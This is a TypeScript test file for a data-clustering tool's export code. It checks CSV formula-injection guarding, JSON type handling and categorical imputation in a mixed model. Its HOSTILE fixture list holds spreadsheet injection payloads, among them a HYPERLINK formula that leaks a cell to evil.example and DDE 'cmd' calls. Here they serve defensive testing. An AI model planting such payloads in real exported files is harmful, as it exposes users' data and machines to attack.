import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { guardFormula, isFormulaLike, readTable } from '../../../src/data';
import type { FitSettingsDto } from '../../../src/protocol/model';
import { exportText } from '../../../src/worker/exportText';
import { runFit } from '../../../src/worker/runFit';

const settings = (columns: string[]): FitSettingsDto => ({
  columns, categorical: [], counts: [], components: { min: 2, max: 2 }, models: ['VVI'], standardize: false, nInit: 2, seed: 0,
  maxIter: 100, tol: 1e-3, regCovar: 1e-6, missing: 'em', init: 'portfolio', maxPoints: 100,
});

/** Reads `text` as `fileName`, fits x and y, and exports `kind`. */
function exported(fileName: string, text: string, kind: 'labels-csv' | 'labels-json', guard = true): string {
  const table = readTable(new TextEncoder().encode(text), { fileName });
  const outcome = runFit(table, fileName, settings(['x', 'y']), { isCancelled: () => false, onProgress: () => undefined, executorFor: () => undefined });
  return exportText(table, outcome, kind, { csvFormulaGuard: guard });
}

const rows = (n: number) => Array.from({ length: n }, (_, i) => [i % 2 ? 10 + (i % 5) : i % 5, i % 2 ? -20 - (i % 3) : i % 3]);
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd', '\t=1+1', '\r=1+1'];

describe('exports are safe by default', () => {
  it('neutralises cells a spreadsheet would run as formulas, OWASP style, and leaves numbers alone', () => {
    for (const cell of HOSTILE) {
      assert.ok(isFormulaLike(cell), cell);
      assert.equal(guardFormula(cell), `"'${cell.replace(/"/g, '""')}"`);
    }
    for (const cell of ['-5', '+3', '-1.5e3', 'plain', '', 'a=b', ' =x']) assert.equal(isFormulaLike(cell), false, cell);
  });

  it('writes formula-like text of a CSV as inert text in the labelled CSV, numbers (negative too) as they were', () => {
    const lines = ['name,x,y', ...rows(20).map(([x, y], i) => `"${HOSTILE[i % HOSTILE.length].replace(/"/g, '""')}",${x},${y}`)];
    const csv = exported('evil.csv', lines.join('\n') + '\n', 'labels-csv');
    const out = readTable(new TextEncoder().encode(csv), { fileName: 'out.csv' });
    for (let r = 0; r < 20; r++) {
      assert.equal(out.cell(r, 0), `'${HOSTILE[r % HOSTILE.length]}`, `row ${r}`);
      assert.equal(out.cell(r, 2), String(rows(20)[r][1]), 'a negative number stays a number');
    }
    for (let r = 0; r < out.nRows; r++) {
      for (let c = 0; c < out.columns.length; c++) {
        const cell = out.cell(r, c) ?? '';
        assert.ok(!/^[=+@\t\r]/.test(cell) && !(cell.startsWith('-') && Number.isNaN(Number(cell))), `row ${r}, column ${c}: ${cell}`);
      }
    }
  });

  it('does the same for strings of a JSON file exported to CSV, and for column names', () => {
    const json = JSON.stringify(rows(20).map(([x, y], i) => ({ note: HOSTILE[i % HOSTILE.length], x, y, '=bad()': 1 })));
    const csv = exported('evil.json', json, 'labels-csv');
    const header = csv.split('\n')[0];
    assert.ok(header.includes(`"'=bad()"`), header);
    assert.ok(csv.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`));
  });

  it('writes cells verbatim when the guard is off', () => {
    const json = JSON.stringify(rows(20).map(([x, y]) => ({ note: '=1+1', x, y })));
    const csv = exported('f.json', json, 'labels-csv', false);
    assert.match(csv.split('\n')[1], /^=1\+1,/);
  });

  it('keeps numbers numbers and true/false booleans in the labelled JSON; text and stray cells stay strings', () => {
    const lines = ['x,y,flag,name', ...rows(30).map(([x, y], i) => `${i === 3 ? 'oops' : x},${y},${i % 2 ? 'TRUE' : 'false'},n${i}`)];
    const records = JSON.parse(exported('t.csv', lines.join('\n') + '\n', 'labels-json')) as Record<string, unknown>[];
    assert.equal(records[0].x, 0);
    assert.equal(records[1].y, -21);
    assert.equal(records[3].x, 'oops');
    assert.equal(records[1].flag, true);
    assert.equal(records[0].flag, false);
    assert.equal(records[0].name, 'n0');
    assert.equal(typeof records[0].cluster, 'number');
    assert.equal(typeof records[0].p_1, 'number');
  });
});

/** Two groups told apart by x, colour (text, some cells missing) and visits (counts). */
function mixedTable(): string {
  const lines = ['x,colour,visits'];
  for (let i = 0; i < 60; i++) {
    const b = i % 2;
    const x = b ? 10 + (i % 5) * 0.3 : (i % 5) * 0.3;
    const colour = i % 10 === 4 || i % 10 === 5 ? '' : b ? (i % 7 === 1 ? 'red' : 'blue') : (i % 7 === 0 ? 'blue' : 'red');
    lines.push(`${x},${colour},${b ? 6 + (i % 3) : i % 2}`);
  }
  return lines.join('\n') + '\n';
}

function mixedOutcome() {
  const table = readTable(new TextEncoder().encode(mixedTable()), { fileName: 'mixed.csv' });
  const s = { ...settings(['x', 'colour', 'visits']), counts: ['visits'], tol: 1e-8, maxIter: 500 };
  const outcome = runFit(table, 'mixed.csv', s, { isCancelled: () => false, onProgress: () => undefined, executorFor: () => undefined });
  return { table, outcome };
}

describe('exports of a mixed model', () => {
  it('imputes a missing categorical cell with its most probable category under the fit, in <column>_imputed', () => {
    const { table, outcome } = mixedOutcome();
    const out = readTable(new TextEncoder().encode(exportText(table, outcome, 'labels-csv')), { fileName: 'out.csv' });
    const names = out.columns.map((c) => c.name);
    assert.deepEqual(names, ['x', 'colour', 'visits', 'cluster', 'p_1', 'p_2', 'uncertainty', 'colour_imputed']);
    const imputed = names.indexOf('colour_imputed'), cluster = names.indexOf('cluster');
    let missing = 0;
    for (let r = 0; r < out.nRows; r++) {
      if (out.cell(r, 1) !== null) {
        assert.equal(out.cell(r, imputed), null, `row ${r}: an observed cell is not imputed`);
        continue;
      }
      missing++;
      // The row's component (the one of its own group) holds mostly its group's colour: red for even rows, blue for odd.
      assert.equal(out.cell(r, imputed), r % 2 ? 'blue' : 'red', `row ${r}`);
      const sameCluster = [...Array(out.nRows).keys()].filter((q) => out.cell(q, cluster) === out.cell(r, cluster) && out.cell(q, 1) !== null);
      const share = sameCluster.filter((q) => out.cell(q, 1) === out.cell(r, imputed)).length / sameCluster.length;
      assert.ok(share > 0.5, `row ${r}: ${out.cell(r, imputed)} is the most common colour of its cluster (${share})`);
    }
    assert.equal(missing, 12);
  });

  it('exports the category probabilities and count rates with the parameters', () => {
    const { table, outcome } = mixedOutcome();
    const json = JSON.parse(exportText(table, outcome, 'params-json')) as {
      categorical: Record<string, { levels: string[]; probabilities: number[][] }>; counts: Record<string, number[]>; settings: { counts: string[] };
    };
    assert.deepEqual(Object.keys(json.categorical), ['colour']);
    assert.deepEqual([...json.categorical.colour.levels].sort(), ['blue', 'red']);
    assert.equal(json.categorical.colour.probabilities.length, 2);
    for (const row of json.categorical.colour.probabilities) assert.ok(Math.abs(row[0] + row[1] - 1) < 1e-9);
    const rates = [...json.counts.visits].sort((a, b) => a - b);
    assert.ok(rates[0] < 1 && rates[1] > 6 && rates[1] < 8, `rates ${rates}`);
    assert.deepEqual(json.settings.counts, ['visits']);
  });
});
